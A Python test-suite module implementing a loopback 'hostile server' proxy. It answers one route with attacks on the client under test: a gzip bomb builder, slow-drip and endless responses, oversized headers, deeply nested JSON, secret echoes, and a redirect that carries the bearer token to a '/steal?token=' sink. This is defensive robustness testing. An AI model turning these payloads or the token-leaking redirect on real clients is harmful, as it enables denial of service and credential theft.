"""The hostile server: a reverse proxy on 127.0.0.1 in front of the simulator, forwarding every
request unchanged except those of one route, which it answers with the scenario's attack.

Written on asyncio streams rather than an ASGI server because an attack must control every
byte and its timing (a head sent one byte at a time, a 10 MiB header, a body that never ends);
forwarded requests go to the simulator through httpx. It runs on its own event loop in a thread.
A second listener, the sink, stands for another host: a client that followed a redirect lands there."""

from __future__ import annotations

import asyncio
import base64
import functools
import json
import re
import struct
import threading
import zlib
from collections.abc import Awaitable, Callable, Mapping, Sequence
from dataclasses import dataclass, field
from typing import Any

import httpx

from tests.hostile import forms, payloads
from tests.hostile.scenarios import ROUTES, Answer, Scenario

LOOPBACK = "127.0.0.1"
HEAD_LIMIT = 1024 * 1024
"""Bytes of a request's head the proxy reads (the suite sends small heads)."""
CHUNK = 64 * 1024
HOP = frozenset({"connection", "keep-alive", "transfer-encoding", "content-length", "host", "accept-encoding"})
"""Headers not forwarded as they are (each hop sets its own)."""
REDIRECTS = (301, 302, 303, 307, 308)


@dataclass
class Request:
    """One request as the suite sent it."""

    method: str
    target: str
    headers: list[tuple[str, str]]
    body: bytes

    @property
    def path(self) -> str:
        return self.target.partition("?")[0]

    def header(self, name: str) -> str:
        return next((v for k, v in self.headers if k.lower() == name.lower()), "")

    @property
    def token(self) -> str:
        return self.header("authorization").partition(" ")[2]


@dataclass
class Seen:
    """What the proxy saw: the secrets the simulator issued, requests on the attacked route and
    attacks served, and requests that followed a redirect to the sink."""

    secrets: list[str] = field(default_factory=list)
    on_route: int = 0
    attacked: int = 0
    forwarded: int = 0
    sink_requests: list[str] = field(default_factory=list)

    def secret(self, value: str) -> None:
        if value and value not in self.secrets:
            self.secrets.append(value)


Writer = Callable[["HostileServer", Request, asyncio.StreamWriter], Awaitable[None]]


async def _read_request(reader: asyncio.StreamReader) -> Request | None:
    """The next request of a connection, or None when the client closed it."""
    try:
        head = await reader.readuntil(b"\r\n\r\n")
    except asyncio.IncompleteReadError:
        return None
    lines = head.decode("latin-1").split("\r\n")
    method, target, _ = lines[0].split(" ", 2)
    headers = [(k.strip(), v.strip()) for k, _, v in (line.partition(":") for line in lines[1:] if line)]
    request = Request(method, target, headers, b"")
    if request.header("transfer-encoding").lower() == "chunked":
        request.body = await _read_chunked(reader)
    else:
        request.body = await reader.readexactly(int(request.header("content-length") or 0))
    return request


async def _read_chunked(reader: asyncio.StreamReader) -> bytes:
    parts = []
    while size := int((await reader.readuntil(b"\r\n")).split(b";")[0], 16):
        parts.append(await reader.readexactly(size))
        await reader.readexactly(2)
    await reader.readuntil(b"\r\n")
    return b"".join(parts)


def head(status: int, headers: list[tuple[str, str]] | tuple[tuple[str, str], ...], reason: str = "") -> bytes:
    """A response's status line and headers (latin-1, as HTTP/1.1 sends them)."""
    lines = [f"HTTP/1.1 {status} {reason or 'Hostile'}", *(f"{k}: {v}" for k, v in headers)]
    return ("\r\n".join(lines) + "\r\n\r\n").encode("latin-1")


def _json_head(status: int, length: int | None, *extra: tuple[str, str]) -> bytes:
    size = [("Content-Length", str(length))] if length is not None else [("Transfer-Encoding", "chunked")]
    return head(status, [("Content-Type", "application/json"), *extra, *size, ("Connection", "close")])


async def _send(writer: asyncio.StreamWriter, data: bytes) -> None:
    writer.write(data)
    await writer.drain()


# ------------------------------------------------------------------------------------- attacks


async def _static(server: HostileServer, request: Request, writer: asyncio.StreamWriter) -> None:
    """The scenario's status and headers, and the next of its bodies (each attacked request another)."""
    answer = server.answer
    kind, text = answer.bodies[(server.seen.attacked - 1) % len(answer.bodies)]
    body = text.encode("utf-8", "surrogatepass")
    extra = [("Content-Type", kind), *answer.headers, ("Content-Length", str(len(body))), ("Connection", "close")]
    await _send(writer, head(answer.status, extra) + body)


async def _echo(server: HostileServer, request: Request, writer: asyncio.StreamWriter) -> None:
    """Every spelling of the request's token and of every secret the run was issued."""
    spelled = [
        text for token in [request.token, *server.seen.secrets] if token for text in forms.echoes(token).values()
    ]
    url = f"https://{payloads.MARKER}.invalid/?access_token={request.token}"
    message = payloads.tagged("echo", "you sent: " + " ".join(spelled) + " " + url)
    body = json.dumps({"error": "invalid_request", "message": message, "echo": spelled}).encode()
    bearer = base64.b64encode(f"Bearer {request.token}".encode()).decode()
    await _send(writer, _json_head(server.answer.status, len(body), ("X-Kc-Echo", bearer)) + body)


async def _trickle(server: HostileServer, request: Request, writer: asyncio.StreamWriter) -> None:
    """The head at once, then one byte of the body every ``every`` seconds."""
    body = server.answer.body.encode()
    await _send(writer, _json_head(server.answer.status, len(body)))
    for byte in body:
        await _send(writer, bytes([byte]))
        await asyncio.sleep(server.answer.every)


async def _slow_headers(server: HostileServer, request: Request, writer: asyncio.StreamWriter) -> None:
    """The status line and headers one byte every ``every`` seconds."""
    for byte in _json_head(server.answer.status, len(server.answer.body)):
        await _send(writer, bytes([byte]))
        await asyncio.sleep(server.answer.every)
    await _send(writer, server.answer.body.encode())


@functools.cache
def gzip_bomb(compressed: int) -> bytes:
    """A valid gzip stream of about ``compressed`` bytes that inflates about 1000-fold: one
    full-flushed deflate block of zeros repeated (built in a second, not by compressing GiBs)."""
    zeros = b"\0" * (1 << 20)
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = deflate.compress(zeros) + deflate.flush(zlib.Z_FULL_FLUSH)
    block = deflate.compress(zeros) + deflate.flush(zlib.Z_FULL_FLUSH)
    end = deflate.flush()
    repeats = max(1, compressed // len(block))
    crc = 0
    for _ in range(repeats + 1):
        crc = zlib.crc32(zeros, crc)
    trailer = struct.pack("<II", crc, ((repeats + 1) << 20) & 0xFFFFFFFF)
    return b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff" + first + block * repeats + end + trailer


async def _gzip_bomb(server: HostileServer, request: Request, writer: asyncio.StreamWriter) -> None:
    body = gzip_bomb(server.answer.size)
    await _send(writer, _json_head(200, len(body), ("Content-Encoding", "gzip")))
    for start in range(0, len(body), CHUNK):
        await _send(writer, body[start : start + CHUNK])


async def _big_body(server: HostileServer, request: Request, writer: asyncio.StreamWriter) -> None:
    """A JSON read answer whose content is ``size`` bytes, streamed."""
    start, end, filler = b'{"content": "', b'"}', b"x" * CHUNK
    await _send(writer, _json_head(200, server.answer.size) + start)
    left = server.answer.size - len(start) - len(end)
    while left > 0:
        await _send(writer, filler[: min(left, CHUNK)])
        left -= CHUNK
    await _send(writer, end)


async def _endless(server: HostileServer, request: Request, writer: asyncio.StreamWriter) -> None:
    """Chunks of a JSON string that never ends, until the client leaves."""
    await _send(writer, _json_head(200, None) + b'b\r\n{"content":\r\n')
    chunk = b"%x\r\n" % CHUNK + b"x" * CHUNK + b"\r\n"
    while not writer.is_closing():
        await _send(writer, chunk)


async def _huge_header(server: HostileServer, request: Request, writer: asyncio.StreamWriter) -> None:
    body = b"{}"
    await _send(writer, _json_head(200, len(body), ("X-Kc-Big", "a" * server.answer.size)) + body)


async def _deep_json(server: HostileServer, request: Request, writer: asyncio.StreamWriter) -> None:
    body = b"[" * server.answer.size + b"]" * server.answer.size
    await _send(writer, _json_head(200, len(body)) + body)


async def _redirect(server: HostileServer, request: Request, writer: asyncio.StreamWriter) -> None:
    """A redirect to the sink, another origin, carrying the token; each statuses in turn."""
    status = REDIRECTS[server.seen.attacked % len(REDIRECTS)]
    location = f"{server.sink_url}/steal?token={request.token}"
    await _send(writer, head(status, [("Location", location), ("Content-Length", "0"), ("Connection", "close")]))


async def _rewrite(server: HostileServer, request: Request, writer: asyncio.StreamWriter) -> None:
    """The simulator's own answer, rewritten by the scenario's transform."""
    status, _, raw = await server.upstream(request)
    try:
        data = json.loads(raw)
    except ValueError:
        data = None
    transform = TRANSFORMS[server.answer.transform]
    text = transform(data, server.spelled(request)) if isinstance(data, dict) else raw.decode("utf-8", "replace")
    body = text.encode("utf-8", "surrogatepass")
    await _send(writer, _json_head(status, len(body)) + body)


WRITERS: Mapping[str, Writer] = {
    "static": _static,
    "echo": _echo,
    "trickle": _trickle,
    "slow_headers": _slow_headers,
    "gzip_bomb": _gzip_bomb,
    "big_body": _big_body,
    "endless": _endless,
    "huge_header": _huge_header,
    "deep_json": _deep_json,
    "redirect": _redirect,
    "rewrite": _rewrite,
}

# ----------------------------------------------------------------------------------- transforms


def _wrong(value: Any) -> Any:
    """A value of another JSON type."""
    if isinstance(value, bool):
        return "false"
    if isinstance(value, int | float):
        return str(value)
    if isinstance(value, str):
        return 12345
    return [value] if isinstance(value, dict) else {"items": value}


def duplicate_keys(data: dict[str, Any], spelled: Sequence[str]) -> str:
    """Every member twice, a wrong value first: a last-wins reader sees the right answer."""
    members = [f"{json.dumps(k)}: {json.dumps(_wrong(v))}, {json.dumps(k)}: {json.dumps(v)}" for k, v in data.items()]
    return "{" + ", ".join(members) + "}"


def wrong_types(data: dict[str, Any], spelled: Sequence[str]) -> str:
    return json.dumps({k: _wrong(v) for k, v in data.items()})


def _filled(data: dict[str, Any], texts: Sequence[str]) -> str:
    """Every member (and every member of a nested object) replaced by the next of ``texts``."""

    def swap(obj: dict[str, Any]) -> dict[str, Any]:
        return {k: swap(v) if isinstance(v, dict) else texts[i % len(texts)] for i, (k, v) in enumerate(obj.items())}

    return json.dumps(swap(data))


def payload_types(data: dict[str, Any], spelled: Sequence[str]) -> str:
    """Every member a payload string: a schema check that quotes the value shows the payload."""
    return _filled(data, payloads.everything().split("\n"))


def secret_types(data: dict[str, Any], spelled: Sequence[str]) -> str:
    """Every member a spelling of a secret: a schema check that quotes the value shows the spelling."""
    return _filled(data, spelled)


TRANSFORMS: Mapping[str, Callable[[dict[str, Any], Sequence[str]], str]] = {
    "duplicate_keys": duplicate_keys,
    "wrong_types": wrong_types,
    "payload_types": payload_types,
    "secret_types": secret_types,
}
"""The simulator's JSON object in, the body to send out; each also given every spelling of the secrets."""


def _tokens_in(data: Any) -> list[str]:
    """Every ``token`` member of a control answer: the identities the simulator minted."""
    if isinstance(data, dict):
        own = [v for k, v in data.items() if k == "token" and isinstance(v, str)]
        return own + [t for v in data.values() for t in _tokens_in(v)]
    return [t for v in data for t in _tokens_in(v)] if isinstance(data, list) else []


# ------------------------------------------------------------------------------------- the server


class HostileServer:
    """The proxy of one scenario, on a loopback port of its own, with its sink."""

    def __init__(self, upstream: str, scenario: Scenario, control_token: str) -> None:
        self.upstream_url = upstream
        self.scenario = scenario
        self.answer: Answer = scenario.answer
        self.method, pattern = ROUTES[scenario.route]
        self.pattern = re.compile(pattern)
        self.seen = Seen()
        self.seen.secret(control_token)
        self.url = self.sink_url = ""
        self._ready = threading.Event()
        self._loop: asyncio.AbstractEventLoop | None = None
        self._stop: asyncio.Event | None = None
        self._thread = threading.Thread(target=lambda: asyncio.run(self._main()), daemon=True)
        self._thread.start()
        if not self._ready.wait(30):
            raise RuntimeError("the hostile server did not start")

    async def _main(self) -> None:
        self._loop, self._stop = asyncio.get_running_loop(), asyncio.Event()
        self._client = httpx.AsyncClient(base_url=self.upstream_url, timeout=60)
        proxy = await asyncio.start_server(self._connection, LOOPBACK, 0, limit=HEAD_LIMIT)
        sink = await asyncio.start_server(self._sink, LOOPBACK, 0)
        self.url = f"http://{LOOPBACK}:{proxy.sockets[0].getsockname()[1]}"
        self.sink_url = f"http://{LOOPBACK}:{sink.sockets[0].getsockname()[1]}"
        self._ready.set()
        await self._stop.wait()
        for listener in (proxy, sink):
            listener.close()
        await self._client.aclose()

    def close(self) -> None:
        if self._loop is not None and self._stop is not None:
            self._loop.call_soon_threadsafe(self._stop.set)
        self._thread.join(10)

    def __enter__(self) -> HostileServer:
        return self

    def __exit__(self, *exc: object) -> None:
        self.close()

    def spelled(self, request: Request) -> list[str]:
        """Every spelling of the request's token and of every secret the run was issued."""
        tokens = dict.fromkeys(t for t in [request.token, *self.seen.secrets] if t)
        return [text for token in tokens for text in forms.echoes(token).values()]

    def attacks(self, request: Request) -> bool:
        """Whether the request is on the attacked route (counted), and there is an attack to answer it with."""
        if request.method != self.method or not self.pattern.search(request.path):
            return False
        self.seen.on_route += 1
        return self.answer.kind != "forward"

    async def _connection(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            while (request := await _read_request(reader)) is not None:
                if self.attacks(request):
                    self.seen.attacked += 1
                    await WRITERS[self.answer.kind](self, request, writer)
                    break
                await self._forward(request, writer)
        except (OSError, asyncio.IncompleteReadError, asyncio.LimitOverrunError, ValueError):
            pass  # the client left, or sent what this proxy does not read: the connection ends
        finally:
            writer.close()

    async def upstream(self, request: Request) -> tuple[int, list[tuple[str, str]], bytes]:
        """The simulator's answer to the request: status, headers, body (as sent, not decoded)."""
        headers = [(k, v) for k, v in request.headers if k.lower() not in HOP] + [("Accept-Encoding", "identity")]
        sent = self._client.build_request(request.method, request.target, headers=headers, content=request.body)
        response = await self._client.send(sent, stream=True)
        try:
            body = b"".join([part async for part in response.aiter_raw()])
        finally:
            await response.aclose()
        kept = [(k, v) for k, v in response.headers.multi_items() if k.lower() not in HOP]
        if request.path.startswith("/_control/"):
            self._collect(body)
        return response.status_code, kept, body

    def _collect(self, body: bytes) -> None:
        try:
            data = json.loads(body)
        except ValueError:
            return
        for token in _tokens_in(data):
            self.seen.secret(token)

    async def _forward(self, request: Request, writer: asyncio.StreamWriter) -> None:
        self.seen.forwarded += 1
        status, headers, body = await self.upstream(request)
        await _send(writer, head(status, [*headers, ("Content-Length", str(len(body)))]) + body)

    async def _sink(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """Another host: any request here followed a redirect."""
        try:
            request = await _read_request(reader)
            if request is not None:
                self.seen.sink_requests.append(f"{request.method} {request.path}")
                await _send(writer, head(404, [("Content-Length", "0"), ("Connection", "close")]))
        except (OSError, asyncio.IncompleteReadError, ValueError):
            pass
        finally:
            writer.close()
